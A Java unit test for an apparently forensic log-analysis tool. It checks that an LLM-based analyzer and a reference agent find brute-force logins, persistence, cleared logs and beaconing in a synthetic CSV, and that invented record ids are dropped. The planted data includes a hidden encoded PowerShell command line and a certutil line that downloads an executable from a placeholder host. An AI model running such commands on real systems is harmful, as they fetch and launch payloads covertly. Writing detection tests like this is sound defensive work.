package org.timesmith.analysis.llm;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.timesmith.analysis.AnalysisResult;
import org.timesmith.analysis.EventRef;
import org.timesmith.analysis.Findings;
import org.timesmith.analysis.TestTimelines;
import org.timesmith.analysis.llm.agent.ReferenceAgent;
import org.timesmith.core.search.EventUpdate;
import org.timesmith.core.search.SearchRequest;
import org.timesmith.core.search.StoredEvent;
import org.timesmith.core.store.EventStream;
import org.timesmith.store.lucene.LuceneEventStore;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The log analyzer against the reference agent over real HTTP on loopback: on the plaso fixture
 * (Windows System and Security logs) and on a CSV with planted attacks (built by this test: a brute
 * force ending in success, a service in a public folder, a scheduled task, encoded PowerShell with a
 * Sigma hit, certutil downloading, a cleared Security log, a beacon every minute, and benign noise),
 * checking the exact questions, conclusions and the events they rest on; and the agent's model path
 * against a fake OpenAI-compatible server, whose invented record ids are dropped.
 */
class ReferenceAgentTest {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final String PERSISTENCE = "Were new services or scheduled tasks created for persistence?";

    @TempDir
    Path dir;

    @Test
    void plasoFixtureServicesBecomeOneQuestionWithAConclusionPerService() throws Exception {
        Path plaso = TestTimelines.fixture("plaso/evtx_20250918.plaso");
        List<String> agentLog = Collections.synchronizedList(new ArrayList<>());
        try (LuceneEventStore store = new LuceneEventStore(dir.resolve("index"));
             ReferenceAgent agent = ReferenceAgent.start(ReferenceAgent.Options.loopback(0), agentLog::add)) {
            TestTimelines.importFile(store, "plaso", 1, plaso);
            LlmRun run = LlmRun.run(store, "plaso", LlmRun.agentAt(agent.url(), Duration.ofSeconds(60)));

            assertThat(run.result.status()).isEqualTo(AnalysisResult.Status.SUCCESS);
            assertThat(run.result.summary()).isEqualTo(
                    "Processed 24 findings: 1 questions, 6 conclusions, 0 errors, 0 malformed lines (3205 events sent)");
            assertThat(agentLog).singleElement().asString().endsWith(": 3205 events, 24 findings, 0 errors");
            assertThat(run.questions()).singleElement().satisfies(q -> {
                assertThat(q.text()).isEqualTo(PERSISTENCE);
                assertThat(q.marks().orElseThrow().priority()).contains("high");
                assertThat(q.marks().orElseThrow().status()).contains("pending-review");
                assertThat(q.marks().orElseThrow().attributes()).containsEntry("source", "AI_GENERATED");
            });
            Map<String, Integer> facts = new TreeMap<>();
            run.conclusions().forEach(c -> facts.put(c.text(), c.facts().size()));
            assertThat(facts).containsExactlyEntriesOf(new TreeMap<>(Map.of(
                    "Service \"BCSWAP\" was installed with image path \"C:\\Windows\\system32\\drivers\\BCSWAP.sys\" (event 7045).", 2,
                    "Service \"BCWipe service\" was installed with image path \"C:\\Program Files (x86)\\Jetico\\BCWipe\\BCWipeSvc.exe\" (event 7045).", 2,
                    "Service \"FResponse Service\" was installed with image path \"f-response-ent.exe\" (event 7045).", 4,
                    "Service \"Mnemosyne\" was installed with image path \"C:\\Windows\\system32\\Mnemosyne_x64.sys\" (event 7045).", 6,
                    "Service \"PsExec\" was installed with image path \"%SystemRoot%\\PSEXESVC.EXE\" (event 7045); PsExec's service, a sign of remote execution.", 8,
                    "Service \"fsh\" was installed with image path \"C:\\Windows\\system32\\drivers\\fsh.sys\" (event 7045).", 2)));
            // every fact is one of the fixture's service installs, and every install is a fact
            List<String> installs = ids(store, "plaso", "event_identifier:7045");
            assertThat(run.conclusions().stream().flatMap(c -> c.facts().stream()).map(EventRef::id))
                    .containsExactlyInAnyOrderElementsOf(installs);
            assertThat(run.conclusions()).allSatisfy(c -> assertThat(c.marks().orElseThrow().attributes())
                    .containsEntry("analyzer", "llm_log_analyzer"));

            // parallel slices and only the fields the service rule reads: the same findings
            LlmRun sliced = LlmRun.run(store, "plaso", LlmRun.agentAt(agent.url(), Duration.ofSeconds(60)),
                    Map.of("parallel", true, "fields", "event_identifier, xml_string ,message"));
            assertThat(sliced.result.summary()).isEqualTo(run.result.summary());
            Map<String, Integer> slicedFacts = new TreeMap<>();
            sliced.conclusions().forEach(c -> slicedFacts.put(c.text(), c.facts().size()));
            assertThat(slicedFacts).isEqualTo(facts);
            assertThat(agentLog).hasSize(2);
        }
    }

    @Test
    void plantedAttacksInACsvAreFoundExactly() throws Exception {
        Path csv = plantedCsv(dir.resolve("planted.csv"));
        try (LuceneEventStore store = new LuceneEventStore(dir.resolve("index"));
             ReferenceAgent agent = ReferenceAgent.start(ReferenceAgent.Options.loopback(0), line -> { })) {
            TestTimelines.importFile(store, "planted", 1, csv);
            // what the Sigma analyzer would have done: tag the PowerShell event with its rule and tactic
            store.updateByQuery(SearchRequest.builder("planted").query("event_identifier:4688 AND sigma_level:high").build(),
                    new EventUpdate.AddTags(List.of("sigma_Suspicious Encoded PowerShell", "attack.execution")));
            store.refresh("planted");
            LlmRun run = LlmRun.run(store, "planted", LlmRun.agentAt(agent.url(), Duration.ofSeconds(60)));

            assertThat(run.result.status()).isEqualTo(AnalysisResult.Status.SUCCESS);
            Map<String, String> priorities = new TreeMap<>();
            run.questions().forEach(q -> priorities.put(q.text(), q.marks().orElseThrow().priority().orElse("")));
            assertThat(priorities).containsExactlyEntriesOf(new TreeMap<>(Map.of(
                    "Did a brute-force attack lead to a successful login?", "high",
                    "Is there beacon-like periodic network traffic?", "medium",
                    "Were event logs cleared to hide activity?", "high",
                    "Were new services or scheduled tasks created for persistence?", "high",
                    "Were suspicious command lines executed?", "high",
                    "Which Sigma rules matched, and what activity do they show?", "high")));

            Map<String, List<String>> conclusions = new TreeMap<>();
            for (Findings.Conclusion c : run.conclusions()) {
                conclusions.put(c.text(), c.facts().stream().map(f -> message(store, f)).sorted().toList());
            }
            String success = datetime(store, "event_identifier:4624 AND ip_address:\"203.0.113.7\"");
            assertThat(conclusions).containsExactlyEntriesOf(new TreeMap<>(Map.of(
                    "At least 10 failed logins from 203.0.113.7 within 3 minutes, then a successful login as admin at " + success + ".",
                    List.of("Logon of admin from 203.0.113.7"),
                    "10.0.0.5 connected to 198.51.100.20 12 times at a regular interval of about 60 s (jitter 0.0%).",
                    List.of("Connection 10.0.0.5 to 198.51.100.20 #0", "Connection 10.0.0.5 to 198.51.100.20 #1",
                            "Connection 10.0.0.5 to 198.51.100.20 #2"),
                    "The Security event log was cleared (event 1102) by admin.", List.of("The audit log was cleared"),
                    "Service \"updater\" was installed with image path \"C:\\Users\\Public\\updater.exe\" (event 7045); the image path is typical of malware.",
                    List.of("A service was installed: updater"),
                    "Scheduled task \"\\Microsoft\\Windows\\Update\\Sync\" was created (event 4698).", List.of("A scheduled task was created"),
                    "Encoded PowerShell command: powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                    List.of("Process created"),
                    "Living-off-the-land binary (certutil downloading or decoding a file): certutil.exe -urlcache -split -f http://198.51.100.9/p.exe C:\\Windows\\Temp\\p.exe",
                    List.of("Process created"),
                    "Sigma rule \"Suspicious Encoded PowerShell\" matched.", List.of("Process created"))));
            Findings.Conclusion sigma = run.conclusions().stream().filter(c -> c.text().startsWith("Sigma")).findFirst().orElseThrow();
            assertThat(sigma.marks().orElseThrow().attributes()).containsEntry("attack_stage", "Execution");
            assertThat(sigma.marks().orElseThrow().priority()).isEqualTo("high");
        }
    }

    @Test
    void theModelsFindingsMustCiteEventsItWasShown() throws Exception {
        List<Map<String, Object>> events = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            events.add(Map.of("message", "user ran tool " + i, "datetime", "2024-03-01T10:00:0" + i + "+00:00",
                    "timestamp", 1_709_287_200_000_000L + i * 1_000_000L, "timestamp_desc", "Event Time"));
        }
        HttpServer model = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 4);
        List<String> prompts = Collections.synchronizedList(new ArrayList<>());
        model.createContext("/v1/chat/completions", exchange -> {
            JsonNode request = JSON.readTree(exchange.getRequestBody());
            String user = request.path("messages").path(1).path("content").asString();
            prompts.add(user);
            String firstId = JSON.readTree(user.lines().findFirst().orElseThrow()).path("record_id").asString();
            String answer = "Here you go:\n[{\"record_id\": \"" + firstId + "\", \"investigative_question\": \"Which tools did the user run?\","
                    + " \"conclusion\": \"The user ran tool 0.\", \"priority\": \"low\", \"attack_stage\": \"Execution\"},"
                    + " {\"record_id\": \"invented-id\", \"investigative_question\": \"Q\", \"conclusion\": \"C\"}]";
            byte[] body = JSON.writeValueAsBytes(Map.of("choices", List.of(Map.of("message", Map.of("role", "assistant",
                    "content", answer)))));
            exchange.getResponseHeaders().set("Content-Type", "application/json");
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        model.start();
        List<String> agentLog = Collections.synchronizedList(new ArrayList<>());
        OpenAiChat chat = new OpenAiChat(URI.create("http://127.0.0.1:" + model.getAddress().getPort()), Optional.empty(),
                Map.of(), Optional.of("test-model"), Duration.ofSeconds(30));
        ReferenceAgent.Options options = new ReferenceAgent.Options(InetAddress.getLoopbackAddress(), 0, Optional.empty(),
                Optional.of(chat), 10);
        try (LuceneEventStore store = new LuceneEventStore(dir.resolve("index"));
             ReferenceAgent agent = ReferenceAgent.start(options, agentLog::add)) {
            TestTimelines.write(store, "model", 1, events);
            LlmRun run = LlmRun.run(store, "model", LlmRun.agentAt(agent.url(), Duration.ofSeconds(60)));
            assertThat(run.result.summary())
                    .isEqualTo("Processed 1 findings: 1 questions, 1 conclusions, 0 errors, 0 malformed lines (3 events sent)");
            assertThat(run.conclusions()).singleElement().satisfies(c -> {
                assertThat(c.text()).isEqualTo("The user ran tool 0.");
                assertThat(c.facts()).extracting(f -> message(store, f)).containsExactly("user ran tool 0");
            });
            assertThat(agentLog).singleElement().asString()
                    .endsWith(": 3 events, 1 findings, 0 errors, 1 model findings dropped (no valid record_id)");
            assertThat(prompts).singleElement().satisfies(p -> assertThat(p.lines().count()).isEqualTo(3));
        } finally {
            model.stop(0);
        }
    }

    /** The planted events, oldest first, as a CSV file with Timesketch's required columns. */
    static Path plantedCsv(Path file) throws IOException {
        List<String> columns = List.of("datetime", "timestamp_desc", "message", "event_identifier", "source_name", "username",
                "ip_address", "service_name", "image_path", "task_name", "command_line", "src_ip", "dst_ip", "sigma_level");
        List<String> lines = new ArrayList<>();
        lines.add(String.join(",", columns));
        Instant start = Instant.parse("2024-03-01T10:00:00Z");
        for (int i = 0; i < 12; i++) {
            lines.add(row(columns, start.plusSeconds(20L * i), Map.of("message", "Failed logon of admin from 203.0.113.7",
                    "event_identifier", "4625", "source_name", "Microsoft-Windows-Security-Auditing", "username", "admin",
                    "ip_address", "203.0.113.7")));
        }
        lines.add(row(columns, start.plusSeconds(250), Map.of("message", "Logon of bob from 192.0.2.10", "event_identifier", "4624",
                "username", "bob", "ip_address", "192.0.2.10")));
        lines.add(row(columns, start.plusSeconds(300), Map.of("message", "Logon of admin from 203.0.113.7", "event_identifier", "4624",
                "source_name", "Microsoft-Windows-Security-Auditing", "username", "admin", "ip_address", "203.0.113.7")));
        lines.add(row(columns, start.plusSeconds(400), Map.of("message", "A service was installed: updater", "event_identifier", "7045",
                "source_name", "Service Control Manager", "service_name", "updater", "image_path", "C:\\Users\\Public\\updater.exe")));
        lines.add(row(columns, start.plusSeconds(500), Map.of("message", "A scheduled task was created", "event_identifier", "4698",
                "task_name", "\\Microsoft\\Windows\\Update\\Sync")));
        lines.add(row(columns, start.plusSeconds(600), Map.of("message", "Process created", "event_identifier", "4688",
                "command_line", "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "sigma_level", "high")));
        lines.add(row(columns, start.plusSeconds(700), Map.of("message", "Process created", "event_identifier", "4688",
                "command_line", "certutil.exe -urlcache -split -f http://198.51.100.9/p.exe C:\\Windows\\Temp\\p.exe")));
        lines.add(row(columns, start.plusSeconds(800), Map.of("message", "Process created", "event_identifier", "4688",
                "command_line", "notepad.exe C:\\notes.txt")));
        lines.add(row(columns, start.plusSeconds(900), Map.of("message", "The audit log was cleared", "event_identifier", "1102",
                "source_name", "Microsoft-Windows-Eventlog", "username", "admin")));
        for (int i = 0; i < 12; i++) {
            lines.add(row(columns, start.plusSeconds(1000 + 60L * i), Map.of("message", "Connection 10.0.0.5 to 198.51.100.20 #" + i,
                    "src_ip", "10.0.0.5", "dst_ip", "198.51.100.20")));
            lines.add(row(columns, start.plusSeconds(1000 + 60L * i + 7 * i * i), Map.of("message", "Connection 10.0.0.6 to 192.0.2.99 #" + i,
                    "src_ip", "10.0.0.6", "dst_ip", "192.0.2.99")));
        }
        Files.write(file, lines, StandardCharsets.UTF_8);
        return file;
    }

    private static String row(List<String> columns, Instant time, Map<String, String> values) {
        Map<String, String> all = new LinkedHashMap<>();
        columns.forEach(c -> all.put(c, values.getOrDefault(c, "")));
        all.put("datetime", time.toString());
        all.put("timestamp_desc", "Event Recorded");
        return all.values().stream().map(v -> "\"" + v.replace("\"", "\"\"") + "\"").collect(Collectors.joining(","));
    }

    private static List<String> ids(LuceneEventStore store, String index, String query) {
        List<String> ids = new ArrayList<>();
        try (EventStream stream = store.stream(SearchRequest.builder(index).query(query).build())) {
            stream.forEachRemaining(e -> ids.add(e.id()));
        }
        return ids;
    }

    private static String message(LuceneEventStore store, EventRef ref) {
        return first(store, ref.index(), "_id:\"" + ref.id() + "\"").source().get("message").toString();
    }

    private static String datetime(LuceneEventStore store, String query) {
        return first(store, "planted", query).source().get("datetime").toString();
    }

    private static StoredEvent first(LuceneEventStore store, String index, String query) {
        try (EventStream stream = store.stream(SearchRequest.builder(index).query(query).build())) {
            return stream.next();
        }
    }
}
